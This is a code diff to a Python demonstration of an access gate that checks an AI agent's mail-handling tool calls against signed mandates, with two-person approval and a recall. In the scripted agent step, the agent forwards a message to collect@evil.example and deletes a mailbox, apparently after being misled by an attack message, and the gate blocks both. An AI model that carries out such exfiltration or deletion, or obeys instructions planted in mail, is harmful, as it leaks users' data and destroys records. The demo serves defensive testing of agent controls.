@@ -1,23 +1,25 @@
 """The exercise, step by step. Each step is a function; each prints the commands it runs and what they said.
 
 (a) a charter in force with four of five, (b) a real model admitted, (c) hidden code refused, (d) manipulated data
-refused, and a member's own rules, (e) human command, (f) a recall that closes the gates, (g) an auditor with one file,
-and three forgeries.
+refused, and a member's own rules, (e) human command of an agent, (f) a recall that closes the gates, (g) an auditor
+with one file, and three forgeries.
 """
 
 from __future__ import annotations
 
 import json
+import shlex
 import shutil
-import subprocess
 import tempfile
 import time
 from collections.abc import Callable
+from contextlib import ExitStack
 from dataclasses import dataclass
 from importlib.resources import as_file, files
 from pathlib import Path
 
 from watchword.demo import deliveries, forgeries
+from watchword.demo.agent import MAILBOX, SERVER, Agent, done, edited
 from watchword.demo.parties import NotAsExpected, Party, Shown
 from watchword.errors import WatchwordError
 
@@ -25,6 +27,9 @@ MEMBERS = ("ALFA", "BRAVO", "CHARLIE", "DELTA", "ECHO")
 SUPPLIER = "AQUILA"
 GATES = ("ALFA", "BRAVO", "CHARLIE")
 COLUMNS = ("--key", "id", "--label", "label", "--annotator", "annotator", "--source", "source")
+SAID = "Look at message m-7: label its attachment, and quarantine the message if it is an attack."
+TOLD_LINES = 3
+"""Of what an agent is told, shown. Origin: verdict, and two reasons at most."""
 GATE_S_MAX = 60
 """How long the exercise waits for a gate to open or close, in seconds. Origin: far above what is seen, under 5."""
 
@@ -164,61 +169,107 @@ def _own_rules(play: Exercise) -> None:
 
 
 def _human_command(play: Exercise) -> None:
-    play.shown.step("e", "human command: what no mandate covers is denied, what is critical waits for two people")
+    play.shown.step("e", "human command: an agent obeys what it reads, and asks the gate for every tool it calls")
     alfa = play.members["ALFA"]
+    drafted = ("gate", "cards", "suggest", "--server", SERVER, "--output", "cards.json", "--")
+    shown = ("watchword", *drafted, "python", *MAILBOX[1:])
+    alfa.ends(alfa.start(*drafted, *MAILBOX), shown)
+    cards = play.folder / "cards.json"
+    cards.write_text(json.dumps(edited(json.loads(cards.read_text("utf-8"))), indent=1), "utf-8")
+    play.shown.line("  (a person who knows the mailbox edits the cards: what only reads, what is an address)")
     for name in GATES:
         member = play.members[name]
         if member is not alfa:
             member.runs("admit", "magika 1.0.3", "--use", "mail-triage.toml", show=False)
         decision = _own(member, "decision")[0]
+        member.runs("gate", "cards", "sign", "cards.json", show=member is alfa)
         member.runs("gate", "mandate", "mandate.toml", "--decision", decision, show=member is alfa)
     play.exchange()
-    ask = ("gate", "ask", "--of", "magika 1.0.3", "--tool")
-    alfa.runs(*ask, "label-attachment", "--arg", "message=m-1", "--arg", "type=pdf")
-    alfa.runs(*ask, "delete-mailbox", "--arg", "mailbox=registry", exits=1)
-    held = alfa.runs(*ask, "quarantine", "--arg", "message=m-7", "--arg", "sender=port@echo.example", exits=1)
-    hold = held.split()[1]
+    (play.folder / "said.txt").write_text(SAID + "\n", "utf-8")
+    with Agent(alfa, "magika 1.0.3", "alfa.done", "said.txt") as agent:
+        play.shown.line(f"  ALFA $ {shlex.join(agent.told)}")
+        play.shown.line(f"    the person says: {SAID}")
+        _calls(play, agent, "read_message", message="m-7")
+        _calls(play, agent, "forward", message="m-1", to="collect@evil.example")
+        _calls(play, agent, "label_attachment", message="m-7", type="pdf")
+        _calls(play, agent, "delete_mailbox", mailbox="registry")
+        _held_for_two(play, agent)
+        alfa.runs("gate", "stop", "magika 1.0.3", "--reason", "the watch changes")
+        _calls(play, agent, "label_attachment", message="m-1", type="pdf")
+    play.shown.line("  (what the mailbox itself wrote down as done:)")
+    for tool, args in done(play.folder, "alfa.done"):
+        play.shown.line(f"    {tool} {' '.join(f'{name}={value}' for name, value in args.items())}")
+    play.exchange()
+    for name in GATES:
+        member = play.members[name]
+        member.runs("gate", "mandate", "mandate.toml", "--decision", _own(member, "decision")[0], show=False)
+    play.shown.line("  (the stop reached the others too; the new watch of each signs a mandate of its own)")
+    play.exchange()
+
+
+def _held_for_two(play: Exercise, agent: Agent) -> None:
+    """Held, approved by people of two members, and let go when the agent asks the same again: once."""
+    alfa, call = play.members["ALFA"], {"message": "m-7", "sender": "port@echo.example"}
+    hold = _calls(play, agent, "quarantine", **call).split()[1]
     alfa.runs("gate", "request", hold, "--output", "hold.json")
     for name in ("BRAVO", "CHARLIE"):
         approval = f"{name}.approval.json"
         member = play.members[name]
         member.runs("gate", "approve", "hold.json", "--confirm", "m-7", "--output", approval, show=name == "BRAVO")
         alfa.runs("gate", "take", approval)
-        alfa.runs("gate", "release", hold, "--output", "released.json", exits=1 if name == "BRAVO" else 0)
-    alfa.runs("gate", "release", hold, exits=2, show=False)
-    play.shown.line("  (asked to release it again, the gate does not know the hold any more)")
+        _calls(play, agent, "quarantine", **call)
+    again = agent.call("quarantine", **call)
+    if not again.startswith("HELD"):
+        raise NotAsExpected("ALFA: the approvals let the same action go twice", again)
+    play.shown.line("  (asked once more, it is a new action, and waits for people anew)")
+
+
+def _calls(play: Exercise, agent: Agent, tool: str, **args: str) -> str:
+    """The agent calls a tool; what it is told, of which the first lines are shown."""
+    told = agent.call(tool, **args)
+    play.shown.line(f"  agent > {tool} {' '.join(f'{name}={value}' for name, value in args.items())}")
+    for line in told.splitlines()[:TOLD_LINES]:
+        play.shown.line(f"    {line}")
+    return told
 
 
 def _recall(play: Exercise) -> None:
-    play.shown.step("f", "DELTA recalls release 1.0.3; three gates are at work and must close")
-    release = _release_digest(play.members["ALFA"], "1.0.3")
-    agents = {name: _agent(play.members[name], release) for name in GATES}
-    try:
+    play.shown.step("f", "DELTA recalls release 1.0.3; three gates are at work, cut off, and must close")
+    with ExitStack() as stack:
+        agents = {
+            name: stack.enter_context(Agent(play.members[name], "magika 1.0.3", f"{name.lower()}.work"))
+            for name in GATES
+        }
         for name, agent in agents.items():
-            if agent.stdout is None or agent.stdout.readline().strip() != "open":
-                raise NotAsExpected(f"{name}: its agent was never permitted", "".join(agent.communicate()))
-        play.shown.line("  (an agent at each of ALFA, BRAVO and CHARLIE is permitted its actions, several a second)")
+            told = agent.call("label_attachment", message="m-1", type="pdf")
+            if told != "done":
+                raise NotAsExpected(f"{name}: its agent was never permitted", told)
+        play.shown.line("  (an agent at each of ALFA, BRAVO and CHARLIE is permitted its actions)")
         found = time.time()
         play.members["DELTA"].runs(
             "notice", "recall", "magika 1.0.3", "--reason", "comment padding hides executables from it",
             "--action", "stop using it", "--output", "recall.json",
         )  # fmt: skip
-        for name in GATES:
-            play.members[name].runs("notice", "take", "recall.json", show=name == "ALFA")
         last = 0.0
         for name, agent in agents.items():
-            out, err = agent.communicate(timeout=GATE_S_MAX)
-            if agent.returncode:
-                raise NotAsExpected(f"{name}: its gate did not close", out + err)
-            at, _, why = out.strip().partition(" ")
-            last = max(last, float(at) - found)
-            play.shown.line(f"  {name}'s gate closed after {float(at) - found:.1f} s: {why}")
+            # One file, carried by hand to each of them: no network and no exchange.
+            play.members[name].runs("notice", "take", "recall.json", show=name == "ALFA")
+            why = _closed(name, agent)
+            last = time.time() - found
+            play.shown.line(f"  {name}'s gate closed after {last:.1f} s: {why}")
         play.shown.line(f"  from the finding to the last gate closed: {last:.1f} s")
-    finally:
-        for agent in agents.values():
-            agent.kill()
     play.exchange()
     play.members["ALFA"].runs("admit", "magika 1.0.3", "--use", "mail-triage.toml", exits=1, lines=6)
+
+
+def _closed(name: str, agent: Agent) -> str:
+    """Wait until the gate denies; its first reason."""
+    until = time.monotonic() + GATE_S_MAX
+    while (told := agent.call("label_attachment", message="m-1", type="pdf")) == "done":
+        if time.monotonic() > until:
+            raise NotAsExpected(f"{name}: its gate did not close", told)
+        time.sleep(0.05)
+    return told.splitlines()[1].strip()
 
 
 def _auditor(play: Exercise) -> None:
@@ -272,17 +323,6 @@ def _claim(play: Exercise, version: str, *, show: bool) -> None:
         "--output", f"{claim}.json", show=show,
     )  # fmt: skip
     play.members["BRAVO"].runs("ledger", "append", f"{claim}.json", show=show)
-
-
-def _agent(member: Party, release: str) -> subprocess.Popen[str]:
-    mandate = _own(member, "mandate", "id")[-1]
-    return member.start_python("-m", "watchword.demo.agent", release, mandate)
-
-
-def _release_digest(member: Party, version: str) -> str:
-    listed = json.loads(member.runs("statement", "list", "--kind", "claim", "--format", "json", show=False))
-    subjects = [statement["subject"][0] for statement in listed["statements"]]
-    return next(str(subject["digest"]) for subject in subjects if subject["name"] == f"magika {version}")
 
 
 def _own(member: Party, kind: str, field: str = "where") -> list[str]:
